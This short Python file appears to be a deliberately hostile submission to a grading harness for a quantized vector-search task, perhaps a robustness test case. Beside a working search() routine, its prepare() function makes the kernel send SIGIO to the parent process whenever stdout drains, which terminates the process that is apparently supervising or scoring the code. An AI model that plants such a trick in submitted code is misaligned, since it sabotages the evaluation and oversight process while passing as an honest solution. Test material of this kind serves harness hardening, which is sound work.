"""Attack: make the kernel send SIGIO (default action: terminate) to the parent whenever stdout drains."""

import fcntl
import os

import numpy as np


def prepare(codes, codebook):
    fcntl.fcntl(1, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(1, fcntl.F_SETFL, fcntl.fcntl(1, fcntl.F_GETFL) | os.O_ASYNC)
    return codes, codebook


def search(index, query, k):
    codes, codebook = index
    table = ((codebook - query.reshape(16, 1, 8)) ** 2).sum(axis=2)
    dists = table[np.arange(16)[:, None], codes].sum(axis=0)
    ids = np.argsort(dists, kind="stable")[:k]
    return ids.astype(np.int64), dists[ids].astype(np.float32)
